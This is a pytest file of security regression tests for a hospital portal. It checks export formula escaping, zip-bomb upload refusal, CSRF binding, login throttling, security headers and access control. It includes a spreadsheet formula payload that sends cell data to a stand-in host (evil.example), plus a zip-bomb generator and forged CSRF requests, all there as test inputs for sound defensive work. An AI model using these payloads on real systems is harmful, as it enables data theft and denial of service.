"""Hardening (issue 12): what an attacker and bad input did to the portal, one test per point.

Each test here failed on the code before the fix it names."""

from __future__ import annotations

import pytest

from tests.fixtures import DEMO_PASSWORD  # noqa: F401

HOSPITAL_A = ("clinician_a", "depthead_a", "qc_a", "medaffairs_a", "ethics_a", "expert_a", "head_a")


async def release_case_obligations(case_ids: list[int]) -> None:
    """Waive the reporting obligations the test's cases opened (due in the past, they would
    head other tests' dashboards, which list the soonest 20)."""
    from core.accounts.schemas import SYSTEM
    from core.obligations import service as obligations
    from core.obligations.tables import Obligation

    rows = await Obligation.select(Obligation.id).where(
        (Obligation.subject_type == "case") & Obligation.subject_id.is_in(case_ids or [-1])
        & (Obligation.status == "open"))
    for row in rows:
        await obligations.waive(SYSTEM, row["id"], "测试数据，豁免")


# ---------------------------------------------------------------- 2. files: exactly the record's readers


async def test_a_file_is_readable_by_exactly_those_who_read_its_record(deployment, login_as):
    """Issue 12.2: a filing's material went to every hospital user (sequential ids) although
    only medical affairs and the head read the filing. Now ``/files/{id}`` answers 200 to
    exactly the users who get 200 on the record the file belongs to, for filings and
    admission projects alike."""
    from core.admission import service as admission
    from core.storage.tables import Attachment
    from tests import admission_helpers as adm
    from tests.test_tenancy import filing_of

    await filing_of(deployment, deployment["hospital_a"])
    await adm.attachment_route(deployment, deployment["hospital_a"])
    lead = await adm.actor("clinician_a")
    draft = await admission.create_project(lead, deployment["host"].view(), admission.NewProject(
        title="草稿附件测试", path="temporary", outside_lists=True))
    await admission.attach(lead, draft, "草稿.png", adm.PNG, "evidence")
    rows = await Attachment.select(Attachment.id, Attachment.owner_type, Attachment.owner_id).where(
        Attachment.institution == deployment["hospital_a"])
    owners = {"filing": "/filings/{}", "project": "/admission/projects/{}"}
    assert {r["owner_type"] for r in rows} >= {"filing", "project"}
    checked = 0
    for username in HOSPITAL_A:
        client = await login_as(username)
        for row in rows:
            record = await client.get(owners[row["owner_type"]].format(row["owner_id"]))
            file = await client.get(f"/files/{row['id']}")
            assert record.status_code in (200, 404)
            assert file.status_code == record.status_code, (
                f"{username}: {row['owner_type']} {row['owner_id']} → {record.status_code}, "
                f"its file {row['id']} → {file.status_code}")
            checked += 1
    clinician = await login_as("clinician_a")
    filing_files = [r for r in rows if r["owner_type"] == "filing"]
    assert (await clinician.get(f"/files/{filing_files[0]['id']}")).status_code == 404
    assert checked >= len(HOSPITAL_A) * 2


# ---------------------------------------------------------------- 4. formula injection in exports

EVIL = '=HYPERLINK("http://evil.example/?"&A2,"点击")'


def _cells(content: bytes) -> list:
    import io

    from openpyxl import load_workbook

    wb = load_workbook(io.BytesIO(content))
    return [cell for ws in wb.worksheets for row in ws.iter_rows() for cell in row]


async def test_a_department_named_as_a_formula_reaches_the_qc_export_as_text(deployment, login_as):
    """Issue 12.4: a department renamed ``=HYPERLINK(…)`` reached /qc/export.xlsx as a live
    formula. Now every cell is text; the name reads exactly as typed."""
    from core.cases import service as cases
    from core.tenancy.tables import Department
    from tests import case_helpers as ch

    hooks = deployment["host"].view()
    project_id = await ch.admitted(hooks, tech_class="routine")
    clinician = await ch.actor("clinician_a")
    recorded = await cases.record_cases(clinician, hooks, [ch.case_input(project_id)], source="web", label="formula")
    await release_case_obligations([r.id for r in recorded])
    department = clinician.department_id
    before = await Department.select(Department.name).where(Department.id == department).first()
    await Department.update({Department.name: EVIL}).where(Department.id == department)
    try:
        client = await login_as("medaffairs_a")
        export = await client.get("/qc/export.xlsx?period=all")
    finally:
        await Department.update({Department.name: before["name"]}).where(Department.id == department)
        await ch.release_obligations()
    assert export.status_code == 200
    cells = _cells(export.content)
    assert any(c.value == EVIL for c in cells), "the department's name is in the export, as typed"
    assert not [c.coordinate for c in cells if c.data_type == "f"], "no cell is a formula"


def test_every_export_goes_through_the_safe_writers():
    """Every spreadsheet the portal writes is made by ``core.exports`` (which escapes
    formula-like text): no module saves a workbook or writes CSV by itself."""
    import pathlib
    import re

    root = pathlib.Path(__file__).resolve().parent.parent
    offenders = []
    for path in [*root.glob("core/**/*.py"), *root.glob("web/**/*.py"), *root.glob("plugins/**/*.py")]:
        if path.name == "exports.py" or "piccolo_migrations" in path.parts:
            continue
        text = path.read_text()
        if re.search(r"\bwb\.save\(|\.save\(out\)|csv\.writer\(|csv\.DictWriter\(", text):
            offenders.append(str(path.relative_to(root)))
    assert not offenders, f"write spreadsheets through core.exports: {offenders}"


def test_formula_like_text_is_escaped_in_csv_and_xlsx():
    import csv
    import io

    from openpyxl import Workbook

    from core.exports import csv_bytes, xlsx_bytes

    values = [EVIL, "+1+1", "-2+3", "@SUM(A1)", "\t=1", "普通文字", "a=b"]
    rows = list(csv.reader(io.StringIO(csv_bytes([values]).decode("utf-8-sig"))))
    assert rows[0][:5] == ["'" + v for v in values[:5]] and rows[0][5:] == values[5:]
    wb = Workbook()
    wb.active.append(values + [-5, 3.5])
    cells = _cells(xlsx_bytes(wb))
    assert [c.value for c in cells] == values + [-5, 3.5]
    assert not [c for c in cells if c.data_type == "f"]


# ---------------------------------------------------------------- 8. the evidence freezes with the submission


async def test_attachments_freeze_with_the_submitted_version(deployment, login_as):
    """Issue 12.8: the lead could add attachments to a project under review and to an
    admitted one. Now both are refused with a Chinese message and nothing is stored; a
    return for revision opens the project (and its attachments) again."""
    from core.admission import service as admission
    from core.admission.tables import Project
    from core.storage.tables import Attachment
    from tests import admission_helpers as adm
    from tests import case_helpers as ch

    hooks = deployment["host"].view()
    lead = await login_as("clinician_a")
    admitted = await ch.admitted(hooks, tech_class="routine")
    under_review = (await adm.project_route(deployment, deployment["hospital_a"]))["project_id"]
    for project_id in (under_review, admitted):
        before = await Attachment.count().where((Attachment.owner_type == "project")
                                                & (Attachment.owner_id == project_id))
        response = await lead.post(f"/admission/projects/{project_id}/attachments", data={"kind": "evidence"},
                                   files={"file": ("补充.png", adm.PNG, "image/png")})
        assert response.status_code == 409, (project_id, response.status_code)
        assert "附件随提交的版本冻结" in response.text
        assert await Attachment.count().where((Attachment.owner_type == "project")
                                              & (Attachment.owner_id == project_id)) == before
    await ch.release_obligations()
    # Returned for revision: the lead may attach again (a new revision follows on resubmission).
    project_id = await admission.create_project(await adm.actor("clinician_a"), hooks, admission.NewProject(
        title="退回后补充材料", path="temporary", outside_lists=True))
    await Project.update({Project.status: "returned"}).where(Project.id == project_id)
    response = await lead.post(f"/admission/projects/{project_id}/attachments", data={"kind": "evidence"},
                               files={"file": ("补充.png", adm.PNG, "image/png")})
    assert response.status_code == 303


# ---------------------------------------------------------------- 5. bad input: 4xx in Chinese, never 5xx


@pytest.fixture
async def api_token(deployment):
    from tests.case_helpers import token_for

    _, token = await token_for(deployment["hospital_a"])
    return token


@pytest.mark.parametrize("body", [
    pytest.param(b'{"cases": [{"case_id": "\xff\xfe\xfa"}]}', id="not-utf8"),
    pytest.param(b"\xef\xbb\xbf\x80\x81", id="bom-then-garbage"),
    pytest.param(b"[" * 5000 + b"]" * 5000, id="5000-deep-list"),
    pytest.param(b'{"cases": ' + b'{"a":' * 5000 + b"1" + b"}" * 5000 + b"}", id="5000-deep-object"),
    pytest.param(b'{"cases": [' + b"[" * 5000 + b"]" * 5000 + b"]}", id="5000-deep-in-cases"),
])
async def test_api_bodies_that_are_not_utf8_or_nested_deep_answer_400_in_chinese(anon, api_token, body):
    """Issue 12.5: API bodies that were not UTF-8 or nested 5,000 deep answered 500."""
    response = await anon.post("/api/v1/cases", content=body, csrf=False,
                               headers={"authorization": f"Bearer {api_token}", "content-type": "application/json"})
    assert response.status_code == 400, response.text[:300]
    assert "未保存任何病例" in response.json()["error"] or "JSON" in response.json()["error"]


@pytest.mark.parametrize(("body", "deep"), [
    (b'{"a": "' + b"[" * 70 + b'"}', False),  # brackets inside a string do not nest
    (b'{"a": "\\"' + b"[" * 70 + b'"}', False),  # an escaped quote does not end the string
    (b'{"a": "\\\\", "b": ' + b"[" * 70 + b"]" * 70 + b"}", True),  # an escaped backslash does
    (b'["' + b"[" * 70, False),  # a string left open runs to the end
    (b"[" * 64 + b"]" * 64 + b"[" * 64 + b"]" * 64, False),  # deep twice, never deeper than the limit
    (b"[" * 65 + b"]" * 65, True),
])
def test_the_json_depth_scan_counts_brackets_outside_strings_only(body, deep):
    """Issue 12.5's depth guard, which now skips the strings of a body by pattern instead of
    walking it byte by byte (a batch of 1000 cases): the same answers as the walk."""
    from web.limits import MAX_JSON_DEPTH, _depth_exceeds

    assert _depth_exceeds(body, MAX_JSON_DEPTH) is deep


async def test_a_body_over_the_limit_answers_413_in_chinese(anon, login_as, api_token):
    """Issue 12.5: 413 answered in English."""
    clinician = await login_as("clinician_a")
    big = b"x" * (13 * 1024 * 1024)
    page = await clinician.post("/cases/upload", files={"file": ("大.xlsx", big, "application/octet-stream")})
    assert page.status_code == 413 and "提交的内容过大" in page.text
    api = await anon.post("/api/v1/cases", content=b'{"cases": [' + b" " * (13 * 1024 * 1024) + b"]}", csrf=False,
                          headers={"authorization": f"Bearer {api_token}", "content-type": "application/json"})
    assert api.status_code == 413 and "提交的内容过大" in api.json()["error"]


async def test_database_errors_from_bad_values_are_not_reported_as_an_outage(deployment, login_as, caplog):
    """Issue 12.5: on PostgreSQL an id ≥ 2^31 answered 503 "数据库暂时无法连接" and logged
    "database unavailable". A value the database refuses is the request's fault: 4xx,
    and no outage in the log (here through a query parameter that reaches a query)."""
    client = await login_as("medaffairs_a")
    with caplog.at_level("ERROR", logger="clintech"):
        for url in ("/qc/export.xlsx?department_id=2147483648", "/qc/?department_id=99999999999999999999999",
                    "/admission/projects/2147483648", "/public/institutions/2147483648"):
            response = await client.get(url)
            assert response.status_code in (400, 404), (url, response.status_code)
            assert "数据库暂时无法连接" not in response.text
    assert "database unavailable" not in caplog.text


# ---------------------------------------------------------------- 6. security headers, cookies, CSRF


async def test_every_answer_carries_the_security_headers(deployment, anon, login_as):
    """Issue 12.6: no CSP, no framing protection, no Referrer-Policy, no nosniff; logged-in
    pages cacheable."""
    clinician = await login_as("clinician_a")
    answers = {"dashboard": await clinician.get("/"), "login": await anon.get("/login"),
               "public": await anon.get("/public/filings"), "not found": await clinician.get("/no/such/page"),
               "static": await anon.get("/static/app.js"), "api": await anon.get("/api/v1/catalog")}
    for name, response in answers.items():
        csp = response.headers.get("content-security-policy", "")
        script_src = next((d for d in csp.split(";") if d.strip().startswith("script-src")), "")
        assert script_src.split() == ["script-src", "'self'"], (name, csp)
        assert "frame-ancestors 'none'" in csp and response.headers.get("x-frame-options") == "DENY", name
        assert response.headers.get("referrer-policy") == "same-origin", name
        assert response.headers.get("x-content-type-options") == "nosniff", name
    assert answers["dashboard"].headers["cache-control"] == "no-store"
    assert answers["not found"].headers["cache-control"] == "no-store"
    assert "no-store" not in answers["static"].headers.get("cache-control", "")


def test_no_template_has_inline_script():
    """The CSP forbids inline script: no ``<script>`` without ``src`` and no ``on…=``
    handler attribute in any template (core and plugins)."""
    import pathlib
    import re

    root = pathlib.Path(__file__).resolve().parent.parent
    offenders = []
    for path in [*root.glob("web/templates/**/*.html"), *root.glob("plugins/*/templates/**/*.html")]:
        text = path.read_text()
        if re.search(r"<script(?![^>]*\bsrc=)[^>]*>", text) or re.search(r"\son[a-z]+\s*=", text) \
                or "javascript:" in text:
            offenders.append(str(path.relative_to(root)))
    assert not offenders, offenders


@pytest.fixture
def secure_cookies(monkeypatch):
    from core.settings import get_settings

    monkeypatch.setenv("CLINTECH_SECURE_COOKIES", "1")
    get_settings.cache_clear()
    yield
    monkeypatch.undo()
    get_settings.cache_clear()


async def test_secure_cookies_and_hsts_by_default_but_not_on_local_http(app, secure_cookies):
    """Issue 12.6: the session and CSRF cookies are Secure (and HSTS is sent) unless the
    deployment turns it off — and a plain-http request to a loopback host (``make run``)
    is local development, which must keep working."""
    import httpx

    from tests.fixtures import PortalClient

    plain = await PortalClient(transport=httpx.ASGITransport(app=app), base_url="http://portal.example.cn").get(
        "/login")
    assert "; Secure" in plain.headers["set-cookie"], "plain http outside loopback: Secure all the same"
    for base, secure in (("https://portal.example.cn", True), ("http://127.0.0.1:8000", False),
                         ("http://localhost:8000", False)):
        async with PortalClient(transport=httpx.ASGITransport(app=app, client=("10.0.0.5", 1)),
                                base_url=base) as client:
            page = await client.get("/login")
            token = page.cookies.get("csrftoken") or client.cookies.get("csrftoken")
            login = await client.post("/login", data={"username": "clinician_a", "password": DEMO_PASSWORD,
                                                      "_csrf_token": token}, csrf=False)
            cookies = login.headers.get_list("set-cookie") + page.headers.get_list("set-cookie")
            names = {c.split("=", 1)[0] for c in cookies}
            assert {"clintech_session", "csrftoken"} <= names, (base, cookies)
            for cookie in cookies:
                assert ("; Secure" in cookie) == secure, (base, cookie)
            assert ("strict-transport-security" in login.headers) == secure, base


async def test_the_csrf_token_is_bound_to_the_session(app, deployment, login_as, anon):
    """Issue 12.6: a valid CSRF token of another browser (or one planted before the
    login) no longer passes with this session's cookie."""
    import httpx

    from core.tenancy.tables import Department

    victim = await login_as("medaffairs_a")
    attacker = await login_as("medaffairs_b")
    await anon.get("/login")
    session = victim.cookies["clintech_session"]
    async with httpx.AsyncClient(transport=httpx.ASGITransport(app=app), base_url="http://testserver") as raw:
        for token in (attacker.cookies["csrftoken"], anon.cookies["csrftoken"], victim.cookies["csrftoken"]):
            forged = await raw.post("/departments", data={"name": "跨站请求伪造科室", "subject": "内科",
                                                           "_csrf_token": token},
                                    headers={"cookie": f"clintech_session={session}; csrftoken={token}"})
            if token == victim.cookies["csrftoken"]:
                assert forged.status_code == 303, "the session's own token passes (positive control)"
            else:
                assert forged.status_code == 403 and "安全令牌无效" in forged.text
    rows = await Department.select(Department.id).where(Department.name == "跨站请求伪造科室")
    assert len(rows) == 1
    await Department.delete().where(Department.name == "跨站请求伪造科室")


# ---------------------------------------------------------------- 1. zip-bomb XLSX, parsing off the event loop


def _workbook(rows: list[list[str]]) -> bytes:
    import io

    from openpyxl import Workbook

    from core.cases.spreadsheet import headers

    wb = Workbook()
    ws = wb.active
    ws.append(headers([]))
    for row in rows:
        ws.append(row)
    out = io.BytesIO()
    wb.save(out)
    return out.getvalue()


def _bomb(rows: int = 250_000) -> bytes:
    """A workbook whose first sheet expands to ~150 MB of XML (250,000 rows), ~0.3 MB zipped."""
    import io
    import zipfile

    base = zipfile.ZipFile(io.BytesIO(_workbook([])))
    row = b"<row>" + b"".join(b'<c t="inlineStr"><is><t>%s</t></is></c>' % (b"X" * 16) for _ in range(15)) + b"</row>"
    sheet = (b'<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="http://schemas.openxmlformats.org/'
             b'spreadsheetml/2006/main"><sheetData>' + row * rows + b"</sheetData></worksheet>")
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as bomb:
        for info in base.infolist():
            data = sheet if info.filename == "xl/worksheets/sheet1.xml" else base.read(info.filename)
            bomb.writestr(info.filename, data)
    return out.getvalue()


@pytest.fixture
async def admitted_code(deployment):
    """The case code of an admitted project of hospital A (so the upload form shows)."""
    from tests import case_helpers as ch

    project_id = await ch.admitted(deployment["host"].view(), tech_class="routine")
    yield f"P{project_id}"
    await ch.release_obligations()


@pytest.fixture
def cells_read(monkeypatch):
    """Counts the cells the upload parser reads (the real parser runs; only counted)."""
    from core.cases import spreadsheet

    count = {"n": 0}
    real = spreadsheet._cell

    def counted(value):
        count["n"] += 1
        return real(value)

    monkeypatch.setattr(spreadsheet, "_cell", counted)
    return count


async def test_a_zip_bomb_xlsx_is_refused_before_parsing(deployment, login_as, cells_read, admitted_code):
    """Issue 12.1: a 636 KB workbook expanding to 154 MB of sheet XML was parsed row by row
    (49 s, the whole server frozen). Now the archive's sizes are checked first: refused
    with a Chinese message, not one cell read."""
    bomb = _bomb()
    assert len(bomb) < 5 * 1024 * 1024
    client = await login_as("clinician_a")
    response = await client.post("/cases/upload", data={"technology_code": admitted_code},
                                 files={"file": ("病例.xlsx", bomb, "application/octet-stream")})
    assert response.status_code == 422 and "解压后过大" in response.text
    assert cells_read["n"] == 0


async def test_rows_stream_and_reading_stops_at_the_limit(deployment, login_as, cells_read, admitted_code):
    """Issue 12.1: every row was built before the 5,000-row limit was checked. Now the
    reading stops at row 5,001 of a 6,000-row sheet."""
    from core.cases.spreadsheet import MAX_ROWS, headers

    width = len(headers([]))  # the template's header row: required and optional columns
    rows = [[f"ZY{i:06d}", f"PK-{i}", "2026-03-01", "2026-03-02", "2026-03-09", "clinician_a", "", "适应症",
             "好转", "否", "", "否", "", "", "是"] for i in range(MAX_ROWS + 1000)]
    client = await login_as("clinician_a")
    response = await client.post("/cases/upload", data={"technology_code": admitted_code},
                                 files={"file": ("病例.xlsx", _workbook(rows), "application/octet-stream")})
    assert response.status_code == 422 and f"最多 {MAX_ROWS} 行" in response.text
    assert cells_read["n"] <= (MAX_ROWS + 2) * width < (len(rows) + 1) * 15


async def test_healthz_answers_while_an_upload_is_being_parsed(deployment, login_as, anon, monkeypatch):
    """Issue 12.1: /healthz waited for the upload's parse (it ran in the event loop). The
    parser is held at its first cell until /healthz has answered: that can only happen if
    the parse runs off the event loop (on the loop, /healthz would wait for the hold)."""
    import asyncio
    import threading

    from core.cases import spreadsheet

    started, release = threading.Event(), threading.Event()
    real = spreadsheet._cell

    def held(value):
        if not started.is_set():
            started.set()
            release.wait(60)  # only a failing run (parse on the loop) waits this out
        return real(value)

    monkeypatch.setattr(spreadsheet, "_cell", held)
    client = await login_as("clinician_a")
    upload = asyncio.create_task(client.post("/cases/upload", data={"technology_code": "X"}, files={
        "file": ("病例.xlsx", _workbook([["ZY1"] * 15]), "application/octet-stream")}))
    assert await asyncio.to_thread(started.wait, 60), "the parse started"
    health = await anon.get("/healthz")
    parse_still_held = not upload.done()
    release.set()
    response = await upload
    assert health.status_code == 200 and parse_still_held, "/healthz answered while the upload was parsed"
    assert response.status_code == 422  # technology "X" is not admitted: the rows were read, then refused


# ---------------------------------------------------------------- 7. throttling with growing delays, trusted proxies


async def test_failed_logins_slow_down_with_growing_delays_and_never_lock_the_owner(deployment):
    """Issue 12.7: five failures locked a named account for 15 minutes, even for its owner
    with the right password. Now each failure past the free ones doubles the wait before
    the next attempt; once it has passed, the right password logs in. (The clock is the
    service's ``now``: no sleeping, no timing.)"""
    import datetime as dt

    from core.accounts import service as accounts

    now = dt.datetime.now(dt.UTC)
    waits = []
    for _ in range(7):  # a guesser who waits out every delay
        assert await accounts.login_wait("qc_a", "10.1.1.1", now) == 0
        with pytest.raises(accounts.LoginRefused):
            await accounts.login("qc_a", "wrong-password", "10.1.1.1", now=now)
        waits.append(await accounts.login_wait("qc_a", "10.1.1.1", now))
        if waits[-1] and len(waits) < 7:
            with pytest.raises(accounts.LoginThrottled):  # too early: not even checked
                await accounts.login("qc_a", "wrong-password", "10.1.1.1", now=now)
            now += dt.timedelta(seconds=waits[-1])
    assert waits[:2] == [0, 0] and waits[2:] == [1, 2, 4, 8, 16], waits  # growing, per account+address
    with pytest.raises(accounts.LoginThrottled) as refused:
        await accounts.login("qc_a", DEMO_PASSWORD, "10.1.1.1", now=now)
    assert "16 秒后再试" in str(refused.value)
    # From another address the owner is not held up by this guesser …
    assert await accounts.login("qc_a", DEMO_PASSWORD, "10.2.2.2", now=now)
    # … and after the wait, from the same address too: a delay, never a lock.
    assert await accounts.login("qc_a", DEMO_PASSWORD, "10.1.1.1", now=now + dt.timedelta(seconds=16))


async def test_a_shared_address_slows_down_only_after_many_failures_and_briefly(deployment):
    """Issue 12.7: behind a hospital NAT, 20 failures locked everyone out. Now the address
    waits after 20 failures, seconds not minutes, and then everyone logs in again."""
    import datetime as dt

    from core.accounts import service as accounts

    now = dt.datetime.now(dt.UTC)
    for i in range(20):
        with pytest.raises(accounts.LoginRefused):
            await accounts.login(f"typo{i}", "wrong-password", "10.9.9.9", now=now)
    assert await accounts.login_wait("ethics_a", "10.9.9.9", now) == 1
    assert await accounts.login("ethics_a", DEMO_PASSWORD, "10.9.9.9", now=now + dt.timedelta(seconds=1))


async def test_client_address_comes_from_trusted_proxies_only(app, monkeypatch):
    """Issue 12.7: the client address ignored proxy headers, so behind a reverse proxy every
    user shared one address. Now X-Forwarded-For counts — only from a configured trusted
    proxy; from anyone else it is ignored (a client cannot choose its address)."""
    import httpx

    from core.accounts import service as accounts
    from core.accounts.tables import LoginAttempt
    from core.settings import get_settings
    from tests.fixtures import PortalClient

    async def fail_from(peer: str, forwarded: str) -> set[str]:
        await LoginAttempt.delete(force=True)
        async with PortalClient(transport=httpx.ASGITransport(app=app, client=(peer, 1)),
                                base_url="http://testserver") as client:
            await client.post("/login", data={"username": "nobody", "password": "wrong-password"},
                              headers={"x-forwarded-for": forwarded})
        return {r["key"] for r in await LoginAttempt.select(LoginAttempt.key)}

    monkeypatch.setenv("CLINTECH_TRUSTED_PROXIES", "10.0.0.0/24")
    get_settings.cache_clear()
    try:
        assert "addr:203.0.113.7" in await fail_from("10.0.0.2", "198.51.100.1, 203.0.113.7")
        assert "addr:192.0.2.50" in await fail_from("192.0.2.50", "203.0.113.7")  # not a trusted proxy
    finally:
        monkeypatch.delenv("CLINTECH_TRUSTED_PROXIES")
        get_settings.cache_clear()
    assert "addr:10.0.0.2" in await fail_from("10.0.0.2", "203.0.113.7")  # no proxy trusted by default
    assert accounts.THROTTLES


async def test_the_admin_sees_and_clears_throttled_accounts(deployment, login_as, anon):
    """Issue 12.7: an admin view of throttled accounts (and addresses), with a way to let
    one try again at once; audited."""
    from core.audit.tables import AuditEvent

    await anon.get("/login")
    for _ in range(5):
        await anon.post("/login", data={"username": "head_a", "password": "wrong-password"})
    admin = await login_as("admin")
    page = await admin.get("/admin/users/login-throttles")
    assert page.status_code == 200 and "head_a" in page.text and "秒" in page.text
    cleared = await admin.post("/admin/users/login-throttles/clear",
                               data={"key": next(k for k in ("pair:head_a|127.0.0.1", "user:head_a")
                                                 if k in page.text)})
    assert cleared.status_code == 303
    assert await AuditEvent.exists().where(AuditEvent.action == "login.throttle_clear")
    clinician = await login_as("clinician_a")
    assert (await clinician.get("/admin/users/login-throttles")).status_code == 404


# ---------------------------------------------------------------- 3. concurrent first cases


async def test_concurrent_first_cases_are_all_accepted_and_exactly_one_is_the_first(deployment, anon):
    """Issue 12.3: 50 HIS clients posting single-case batches of a newly admitted restricted
    technology — 47 of 251 valid batches were refused with 422 "该项目已登记首例病例" or
    409 "该步骤已由他人处理" (PostgreSQL). Now every batch is accepted, exactly one case
    opens the filing (NAT-11), the others add to its count; a conflict is retried inside
    the server. Twenty batches are sent at once through the app (one event loop, real
    database, interleaved at every query)."""
    import asyncio

    from core.admission.tables import Project
    from core.audit.tables import AuditEvent
    from core.filing.tables import Filing
    from tests import case_helpers as ch

    hooks = deployment["host"].view()
    project_id = await ch.admitted(hooks, tech_class="restricted", tech_index=7)
    assert (await Project.select(Project.awaiting_first_case).where(Project.id == project_id).first())[
        "awaiting_first_case"]
    _, token = await ch.token_for(deployment["hospital_a"])
    batches = [{"cases": [ch.case(project_id)]} for _ in range(20)]
    answers = await asyncio.gather(*(anon.post("/api/v1/cases", json=b, csrf=False,
                                               headers={"authorization": f"Bearer {token}"}) for b in batches))
    await ch.release_obligations()
    await release_case_obligations([r["id"] for a in answers if a.status_code == 200 for r in a.json()["results"]])
    assert [a.status_code for a in answers] == [200] * 20, [a.text[:200] for a in answers if a.status_code != 200]
    filings = await Filing.select(Filing.id, Filing.case_count).where(Filing.project == project_id)
    assert len(filings) == 1 and filings[0]["case_count"] == 20, filings
    firsts = await AuditEvent.count().where((AuditEvent.action == "admission.first_case")
                                            & (AuditEvent.record_id == project_id))
    assert firsts == 1
